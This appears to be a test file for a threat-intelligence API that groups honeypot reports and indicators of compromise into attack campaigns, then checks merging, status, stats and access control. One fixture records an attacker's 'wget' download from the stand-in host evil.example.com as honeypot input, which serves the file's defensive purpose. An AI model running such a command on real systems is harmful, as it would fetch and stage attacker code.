import { authHeader } from '../../helper.js';
import { storeKey } from '../fixtures.js';
import { DAY, HOUR, buildIntelHarnessOn, report } from './helper.js';
import { countIn, onBothEngines, selectRows } from '../../engines.js';

const PAYLOAD_A = 'a'.repeat(64);
const PAYLOAD_B = 'b'.repeat(64);

interface CampaignBody {
  id: string;
  name: string;
  status: string;
  severity: string;
  firstSeen: string;
  lastActivity: string;
  iocCount: number;
  affectedOrgs: number;
  mitreIds: string[];
  tags: string[];
}

onBothEngines('trap intel linking an attacker to two payloads forms a campaign at once', async (t, engine) => {
  const h = await buildIntelHarnessOn(t, engine);
  const res = await h.post('/api/trap-intel', {
    trapId: 'trap-1',
    attackerIp: '203.0.113.7',
    honeypotType: 'ssh',
    interactions: [{ timestamp: '2026-03-07T11:59:00.000Z', action: 'command', data: { command: 'wget http://evil.example.com/x.sh' } }],
    payloads: [PAYLOAD_A, PAYLOAD_B],
  });
  t.equal(res.statusCode, 201);
  const campaignId = res.json().data.campaignMatch as string;
  t.match(campaignId, /^campaign_[0-9a-f]{32}$/, 'campaignMatch names the new campaign');

  const list = await h.get('/api/campaigns');
  t.equal(list.statusCode, 200);
  t.same(list.json().pagination, { total: 1, page: 1, limit: 20, pages: 1 });
  const [campaign] = list.json().data as CampaignBody[];
  t.equal(campaign!.id, campaignId);
  // attacker ip, two payload hashes, the contacted url and its domain
  t.equal(campaign!.iocCount, 5);
  t.equal(campaign!.status, 'active');
  t.equal(campaign!.severity, 'high');
  t.equal(campaign!.affectedOrgs, 1);
  t.same(campaign!.tags, ['exploit', 'malware', 'ssh']);
  t.equal(campaign!.firstSeen, '2026-03-07T12:00:00.000Z');
  t.equal(campaign!.name, 'Malware campaign around 203.0.113.7', 'named after the dominant category and the earliest member');

  const lookup = await h.get('/api/iocs/203.0.113.7');
  t.same(lookup.json().data.campaigns, [campaignId], 'the IoC lookup names its campaign');

  const detail = await h.get(`/api/campaigns/${campaignId}`);
  t.equal(detail.statusCode, 200);
  const data = detail.json().data;
  t.same(data.iocs.byType, { domain: 1, hash: 2, ip: 1, url: 1 });
  t.equal(data.iocs.total, 5);
  t.same(data.iocs.topIps.map((ip: { value: string }) => ip.value), ['203.0.113.7']);
  t.same(data.iocs.topDomains.map((d: { value: string }) => d.value), ['evil.example.com']);
  t.ok(data.timeline.some((entry: { event: string }) => entry.event === 'Campaign detected'));
  t.ok(data.recommendations.some((text: string) => /Patch exposed services/.test(text)), 'exploit advice');
  t.ok(data.recommendations.some((text: string) => /hashes/.test(text)), 'malware advice');
  t.match(data.description, /5 related indicators/);
  t.same(data.geography.targetCountries, []);
});

onBothEngines('a second trap report of the same attacker matches the existing campaign', async (t, engine) => {
  const h = await buildIntelHarnessOn(t, engine);
  const first = await h.post('/api/trap-intel', { trapId: 't', attackerIp: '203.0.113.8', honeypotType: 'http', payloads: [PAYLOAD_A, PAYLOAD_B] });
  const again = await h.post('/api/trap-intel', { trapId: 't', attackerIp: '203.0.113.8', honeypotType: 'http', credentials: [{ username: 'root', password: 'x' }] });
  t.equal(again.json().data.campaignMatch, first.json().data.campaignMatch);
  const lone = await h.post('/api/trap-intel', { trapId: 't', attackerIp: '198.51.100.200', honeypotType: 'http' });
  t.equal(lone.json().data.campaignMatch, null, 'an attacker linked to nothing is in no campaign');
});

onBothEngines('IPs of one category in one /24 reported within 24 h form a campaign; other blocks, categories and times do not', async (t, engine) => {
  const h = await buildIntelHarnessOn(t, engine);
  await report(h, [
    { type: 'ip', value: '198.51.100.1', category: 'bruteforce' },
    { type: 'ip', value: '198.51.100.2', category: 'bruteforce' },
    { type: 'ip', value: '198.51.101.3', category: 'bruteforce' }, // another /24
    { type: 'ip', value: '198.51.100.4', category: 'scanner' }, // another category
  ]);
  await h.correlate();
  t.equal((await h.get('/api/campaigns')).json().pagination.total, 0, 'two connected IoCs are not a campaign yet');
  const [grouped] = await selectRows<{ n: number }>(h.storage, `SELECT count(*) AS n FROM campaign_iocs c JOIN iocs i ON i.id = c.ioc_id WHERE i.value = '198.51.100.1'`);
  t.equal(Number(grouped!.n), 1, 'the two are grouped, the group not yet a campaign');
  t.same((await h.get('/api/iocs/198.51.100.1')).json().data.campaigns, [], 'a lookup names no group that has not formed');

  h.clock.advance(25 * HOUR);
  await report(h, [{ type: 'ip', value: '198.51.100.5', category: 'bruteforce' }]);
  await h.correlate();
  t.equal((await h.get('/api/campaigns')).json().pagination.total, 0, 'a report 25 h later is not related');

  h.clock.advance(-2 * HOUR);
  await report(h, [{ type: 'ip', value: '198.51.100.6', category: 'bruteforce' }], h.otherKey);
  await h.correlate();
  const list = (await h.get('/api/campaigns')).json();
  t.equal(list.pagination.total, 1, 'within 24 h of .1/.2 (23 h) the third IP forms the campaign');
  const campaign = list.data[0] as CampaignBody;
  t.equal(campaign.name, 'Brute-force campaign from 198.51.100.0/24');
  // .5 is within 24 h of .6 too, so it joins: .1 .2 .5 .6
  t.equal(campaign.iocCount, 4);
  t.equal(campaign.affectedOrgs, 2, 'two keys, two reporters');
  const members = await selectRows<{ value: string }>(h.storage, `SELECT i.value FROM campaign_iocs c JOIN iocs i ON i.id = c.ioc_id WHERE c.campaign_id = ? ORDER BY 1`, [campaign.id]);
  t.same(members.map((row) => row.value), ['198.51.100.1', '198.51.100.2', '198.51.100.5', '198.51.100.6']);
  t.same((await h.get('/api/iocs/198.51.100.1')).json().data.campaigns, [campaign.id], 'once formed, the lookup names it');
});

onBothEngines('IPv6 addresses in one /48 meet whatever their compressed form', async (t, engine) => {
  const h = await buildIntelHarnessOn(t, engine);
  await report(h, [
    { type: 'ip', value: '2001:db8:aa::1', category: 'scanner' },
    { type: 'ip', value: '2001:db8:aa:1::2', category: 'scanner' },
    { type: 'ip', value: '2001:db8:aa:ffff:1:2:3:4', category: 'scanner' },
    { type: 'ip', value: '2001:db8:ab::1', category: 'scanner' },
  ]);
  await h.correlate();
  const list = (await h.get('/api/campaigns')).json();
  t.equal(list.pagination.total, 1);
  t.equal(list.data[0].iocCount, 3);
  t.equal(list.data[0].name, 'Scanning campaign from 2001:db8:aa::/48');
});

onBothEngines('new IoCs extend a campaign, connected campaigns merge and the older id survives', async (t, engine) => {
  const h = await buildIntelHarnessOn(t, engine);
  const a = await h.post('/api/trap-intel', { trapId: 't', attackerIp: '203.0.113.10', honeypotType: 'ssh', payloads: ['1'.repeat(64), '2'.repeat(64)] });
  const older = a.json().data.campaignMatch as string;
  h.clock.advance(HOUR);
  const b = await h.post('/api/trap-intel', { trapId: 't', attackerIp: '198.51.100.77', honeypotType: 'ftp', payloads: ['3'.repeat(64), '4'.repeat(64)] });
  const younger = b.json().data.campaignMatch as string;
  t.not(older, younger);
  await h.correlate();

  h.clock.advance(HOUR);
  // The younger attacker drops a payload of the older campaign: both campaigns connect.
  const c = await h.post('/api/trap-intel', { trapId: 't', attackerIp: '198.51.100.77', honeypotType: 'ftp', payloads: ['1'.repeat(64), '5'.repeat(64)] });
  t.equal(c.json().data.campaignMatch, older, 'the older id survives the merge');
  await h.correlate();

  t.equal((await h.get(`/api/campaigns/${younger}`)).statusCode, 404);
  const detail = (await h.get(`/api/campaigns/${older}`)).json().data;
  t.equal(detail.iocCount, 7, '2 attackers and 5 payloads');
  t.same(detail.tags, ['ftp', 'malware', 'scanner', 'ssh'], 'member categories and honeypot types of both');
  t.ok(detail.timeline.some((e: { event: string; details: string }) => e.event === 'Campaigns merged' && e.details.includes(younger)));
  t.equal((await h.get('/api/campaigns')).json().pagination.total, 1);
  t.equal(await countIn(h.storage, 'campaign_iocs'), 7);

  h.clock.advance(HOUR);
  await h.post('/api/trap-intel', { trapId: 't', attackerIp: '203.0.113.10', honeypotType: 'ssh', payloads: ['6'.repeat(64)] });
  const extended = (await h.get(`/api/campaigns/${older}`)).json().data;
  t.equal(extended.iocCount, 8);
  t.ok(extended.timeline.some((e: { event: string }) => e.event === 'Campaign extended'));
  const dates = extended.timeline.map((e: { date: string }) => e.date);
  t.same(dates, [...dates].sort(), 'timeline in chronological order');
});

onBothEngines('status follows last activity; the list filters by status and since', async (t, engine) => {
  const h = await buildIntelHarnessOn(t, engine);
  const first = (await h.post('/api/trap-intel', { trapId: 't', attackerIp: '203.0.113.20', honeypotType: 'ssh', payloads: ['7'.repeat(64), '8'.repeat(64)] })).json().data.campaignMatch;
  const createdAt = new Date(h.clock.now()).toISOString();
  h.clock.advance(8 * DAY);
  const second = (await h.post('/api/trap-intel', { trapId: 't', attackerIp: '203.0.113.21', honeypotType: 'ssh', payloads: ['9'.repeat(64), 'c'.repeat(64)] })).json().data.campaignMatch;

  const byStatus = async (status: string) => (await h.get(`/api/campaigns?status=${status}`)).json().data.map((c: CampaignBody) => c.id);
  t.same(await byStatus('active'), [second]);
  t.same(await byStatus('dormant'), [first], '8 days without activity: dormant');
  t.same(await byStatus('resolved'), []);
  t.same((await h.get('/api/campaigns')).json().data.map((c: CampaignBody) => c.id), [second, first], 'most recently active first');
  t.same((await h.get(`/api/campaigns?since=${encodeURIComponent(createdAt)}`)).json().data.map((c: CampaignBody) => c.id), [second], 'updated after');

  h.clock.advance(23 * DAY);
  t.same(await byStatus('resolved'), [first], 'over 30 days: resolved');
  t.same(await byStatus('dormant'), [second]);
  t.equal((await h.get(`/api/campaigns/${first}`)).json().data.status, 'resolved');

  const paging = (await h.get('/api/campaigns?limit=1&page=2')).json();
  t.same(paging.pagination, { total: 2, page: 2, limit: 1, pages: 2 });
  t.equal(paging.data.length, 1);
});

onBothEngines('stats count campaigns by status and severity, with techniques and reporters', async (t, engine) => {
  const h = await buildIntelHarnessOn(t, engine);
  const empty = (await h.get('/api/campaigns/stats')).json().data;
  t.same(empty, {
    totalCampaigns: 0, activeCampaigns: 0, dormantCampaigns: 0, resolvedCampaigns: 0,
    bySeverity: { low: 0, medium: 0, high: 0, critical: 0 }, topMitreTechniques: [], avgIocsPerCampaign: 0, totalAffectedOrgs: 0,
  });

  await report(h, [
    { type: 'ip', value: '198.51.100.1', category: 'bruteforce', severity: 'low', metadata: { mitreIds: ['T1110'] } },
    { type: 'ip', value: '198.51.100.2', category: 'bruteforce', severity: 'critical', metadata: { mitreIds: ['T1110', 'T1078'] } },
    { type: 'ip', value: '198.51.100.3', category: 'bruteforce', severity: 'low' },
  ]);
  await report(h, [
    { type: 'ip', value: '203.0.113.1', category: 'scanner', severity: 'medium', metadata: { mitreId: 'T1046' } },
    { type: 'ip', value: '203.0.113.2', category: 'scanner', severity: 'low', metadata: { mitreIds: ['T1110'] } },
    { type: 'ip', value: '203.0.113.3', category: 'scanner', severity: 'low' },
    { type: 'ip', value: '203.0.113.4', category: 'scanner', severity: 'low' },
  ], h.otherKey);
  await h.correlate();
  h.clock.advance(10 * DAY);
  await report(h, [{ type: 'ip', value: '203.0.113.4', category: 'scanner' }]);
  await h.correlate();

  const stats = (await h.get('/api/campaigns/stats')).json().data;
  t.equal(stats.totalCampaigns, 2);
  t.equal(stats.activeCampaigns, 1);
  t.equal(stats.dormantCampaigns, 1);
  t.equal(stats.resolvedCampaigns, 0);
  t.same(stats.bySeverity, { low: 0, medium: 1, high: 0, critical: 1 });
  t.same(stats.topMitreTechniques, [
    { id: 'T1110', name: 'Brute Force', campaigns: 2 },
    { id: 'T1046', name: 'Network Service Discovery', campaigns: 1 },
    { id: 'T1078', name: 'Valid Accounts', campaigns: 1 },
  ]);
  t.equal(stats.avgIocsPerCampaign, 3.5);
  t.equal(stats.totalAffectedOrgs, 2);

  const scanner = (await h.get('/api/campaigns?status=active')).json().data[0] as CampaignBody;
  t.equal(scanner.affectedOrgs, 2, 'the re-report came from the other key');
  t.same(scanner.mitreIds, ['T1046', 'T1110']);
});

onBothEngines('geography lists source countries by frequency and target countries from metadata', async (t, engine) => {
  const h = await buildIntelHarnessOn(t, engine);
  await report(h, [
    { type: 'ip', value: '198.51.100.1', category: 'c2', metadata: { country: 'DE', targetCountry: 'FR' } },
    { type: 'ip', value: '198.51.100.2', category: 'c2', metadata: { country: 'NL' } },
    { type: 'ip', value: '198.51.100.3', category: 'c2', metadata: { country: 'NL', targetCountry: 'be' } },
  ]);
  await h.correlate();
  const [campaign] = (await h.get('/api/campaigns')).json().data as CampaignBody[];
  const detail = (await h.get(`/api/campaigns/${campaign!.id}`)).json().data;
  t.same(detail.geography, { sourceCountries: ['NL', 'DE'], targetCountries: ['BE', 'FR'] });
  t.ok(detail.recommendations.some((text: string) => /command-and-control/.test(text)));
});

onBothEngines('whitelisted IoCs link nothing', async (t, engine) => {
  const h = await buildIntelHarnessOn(t, engine);
  await report(h, [{ type: 'ip', value: '198.51.100.1', category: 'botnet' }]);
  const put = await h.app.inject({ method: 'PUT', url: '/api/iocs/198.51.100.1/status', payload: { status: 'whitelisted', reason: 'ours' }, headers: authHeader(h.key) });
  t.equal(put.statusCode, 200);
  await report(h, [{ type: 'ip', value: '198.51.100.2', category: 'botnet' }, { type: 'ip', value: '198.51.100.3', category: 'botnet' }]);
  await h.correlate();
  t.equal((await h.get('/api/campaigns')).json().pagination.total, 0);
});

onBothEngines('errors: unknown campaign, bad query, missing key, missing scope', async (t, engine) => {
  const h = await buildIntelHarnessOn(t, engine);
  t.same((await h.get('/api/campaigns/campaign_nope')).json(), { ok: false, error: 'Campaign not found', code: 'NOT_FOUND' });
  t.equal((await h.get('/api/campaigns/campaign_nope')).statusCode, 404);
  for (const query of ['status=gone', 'limit=101', 'limit=0', 'page=0', 'since=yesterday']) {
    const res = await h.get(`/api/campaigns?${query}`);
    t.equal(res.statusCode, 400, query);
    t.equal(res.json().ok, false);
  }
  t.match((await h.get('/api/campaigns?status=gone')).json().error, /status must be one of active, dormant, resolved/);
  const anonymous = await h.app.inject({ method: 'GET', url: '/api/campaigns' });
  t.same(anonymous.json(), { ok: false, error: 'API key required', code: 'UNAUTHORIZED' });
  t.equal((await h.get('/api/campaigns/stats', 'pgk_wrongwrongwrongwrongwrongwrongwrong')).json().error, 'Invalid API key');
  const { key: writeOnly } = await storeKey(h.storage, h.clock, { name: 'w', origin: 'operator', tier: 'enterprise', scopes: ['write'] });
  const denied = await h.get('/api/campaigns', writeOnly);
  t.equal(denied.statusCode, 403);
  t.equal(denied.json().error, 'Missing scope: read');
});

onBothEngines('campaign reads are audited as query entries', async (t, engine) => {
  const h = await buildIntelHarnessOn(t, engine);
  await h.get('/api/campaigns');
  await h.get('/api/campaigns/stats');
  await h.get('/api/campaigns/campaign_x');
  await h.app.close();
  const rows = await selectRows<{ resource: string; api_key: string; details: string }>(h.storage, `SELECT resource, api_key, details FROM tc_audit_log WHERE action = 'query'`);
  t.same(rows.map((row) => row.resource), ['campaigns'], 'one entry for the key, kind and minute');
  t.match(JSON.parse(rows[0]!.details), { count: 3, samples: ['campaigns?page=1&limit=20', 'campaigns/stats', 'campaign?id=campaign_x&found=false'] });
  t.equal(rows[0]!.api_key, `${h.key.slice(0, 4)}…${h.key.slice(-4)}`, 'keys masked to first 4 and last 4');
});

onBothEngines('the background job correlates new reports without a request', async (t, engine) => {
  const h = await buildIntelHarnessOn(t, engine, { correlation: { checkMs: 10, everyMs: 60_000 } });
  await report(h, [
    { type: 'ip', value: '198.51.100.1', category: 'phishing' },
    { type: 'ip', value: '198.51.100.2', category: 'phishing' },
    { type: 'ip', value: '198.51.100.3', category: 'phishing' },
  ]);
  let total = 0;
  for (let attempt = 0; attempt < 200 && total === 0; attempt++) {
    await new Promise((resolve) => setTimeout(resolve, 10));
    total = (await h.get('/api/campaigns')).json().pagination.total;
  }
  t.equal(total, 1);
});

onBothEngines('the OpenAPI document lists the campaign and analytics routes', async (t, engine) => {
  const h = await buildIntelHarnessOn(t, engine);
  const res = await h.app.inject({ method: 'GET', url: '/docs/json' });
  t.equal(res.statusCode, 200);
  const paths = Object.keys(res.json().paths);
  for (const path of ['/api/campaigns', '/api/campaigns/stats', '/api/campaigns/{id}', '/api/query/timeseries', '/api/query/geo', '/api/query/trends', '/api/query/mitre-heatmap']) {
    t.ok(paths.includes(path), path);
  }
});
